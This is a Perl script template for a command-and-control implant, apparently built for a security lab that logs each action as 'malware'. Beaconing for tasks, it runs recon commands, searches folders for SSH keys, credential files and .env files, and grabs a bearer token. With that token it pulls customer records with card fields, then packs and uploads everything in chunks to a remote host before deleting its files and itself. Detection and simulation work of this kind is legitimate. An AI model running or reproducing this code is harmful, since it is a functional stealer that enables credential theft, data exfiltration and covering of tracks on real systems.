#!@INTERPRETER@
# Part of a laboratory: reads made-up keys and customers in the lab's own folders and sends them to the lab's own collector.
use strict;
use warnings;
use IO::Socket::INET;
use Time::HiRes qw(sleep);

my $control = "@CONTROL@";
my $log = "@LOG@";
my $work = "@WORK@";
my ($delay, $piece) = (@DELAY@, @PIECE@);
my $token = "";

sub note {
  my ($act, $more) = @_;
  my ($s, $us) = Time::HiRes::gettimeofday();
  open(my $out, ">>", $log) or return;
  printf $out '{"ts":"%d%06d000","actor":"malware","pid":%d,"act":"%s"%s}' . "\n", $s, $us, $$, $act, $more // "";
  close($out);
}

sub ask {
  my ($peer, $method, $path, $body, $header) = @_;
  my $socket = IO::Socket::INET->new(PeerAddr => $peer, Proto => "tcp", Timeout => 5) or return "";
  my $length = length($body // "");
  print $socket "$method $path HTTP/1.0\r\nHost: $peer\r\n" . ($header // "") . "Content-Length: $length\r\n\r\n" . ($body // "");
  $socket->flush();
  local $/;
  my $answer = <$socket> // "";
  close($socket);
  $answer =~ s/^.*?\r\n\r\n//s;
  return $answer;
}

sub look {
  for my $command ("id", "uname -a", "hostname") {
    my $text = `$command`;
    note("run", qq(,"command":"$command"));
  }
}

sub walk {
  my ($folder) = @_;
  my $found = 0;
  opendir(my $handle, $folder) or return 0;
  for my $name (sort readdir($handle)) {
    next if $name eq "." || $name eq "..";
    my $path = "$folder/$name";
    if (-d $path && !-l $path) { $found += walk($path); next; }
    next unless $name =~ /^(id_rsa|id_ed25519|credentials\.json|credentials|\.env)$|\.pem$/;
    open(my $in, "<", $path) or next;
    local $/;
    my $text = <$in>;
    close($in);
    open(my $keys, ">>", "$work/keys");
    print $keys "$path\n$text\n";
    close($keys);
    $token = $1 if $text =~ /"token": *"([^"]+)"/;
    note("read", qq(,"path":"$path","bytes":) . length($text));
    $found++;
  }
  return $found;
}

sub customers {
  my ($peer) = @_;
  my ($received, $rows) = (0, 0);
  open(my $out, ">", "$work/customers.json");
  for (my $offset = 0; $offset < 1600; $offset += 200) {
    my $text = ask($peer, "GET", "/customers?offset=$offset&limit=200", "", "Authorization: Bearer $token\r\n");
    $received += length($text);
    $rows++ while $text =~ /"card"/g;
    print $out $text;
  }
  close($out);
  note("collect", qq(,"peer":"$peer","bytes":$received,"rows":$rows,"path":"$work/customers.json"));
}

sub send_out {
  my ($peer) = @_;
  system("tar", "-C", $work, "-czf", "$work/out.tgz", "keys", "customers.json");
  note("pack", qq(,"path":"$work/out.tgz","bytes":) . (-s "$work/out.tgz"));
  open(my $in, "<:raw", "$work/out.tgz");
  while (read($in, my $part, $piece)) {
    ask($peer, "POST", "/up", $part);
    note("send", qq(,"peer":"$peer","bytes":) . length($part));
  }
  close($in);
}

sub leave {
  for my $path (glob("$work/*"), $0) {
    unlink($path);
    note("delete", qq(,"path":"$path"));
  }
  rmdir($work);
}

mkdir($work);
note("start", qq(,"path":"$0","parent":) . getppid());
for my $beat (0 .. 59) {
  my $line = ask($control, "GET", "/task?n=$beat");
  chomp($line);
  note("beacon", qq(,"peer":"$control","command":"$line"));
  my ($verb, $rest) = split(/ /, $line, 2);
  $verb //= "";
  if ($verb eq "look") { look(); }
  elsif ($verb eq "search") { my $n = walk($rest); note("search", qq(,"path":"$rest","found":$n)); }
  elsif ($verb eq "customers") { customers($rest); }
  elsif ($verb eq "send") { send_out($rest); }
  elsif ($verb eq "leave") { leave(); last; }
  sleep($delay);
}
note("end");
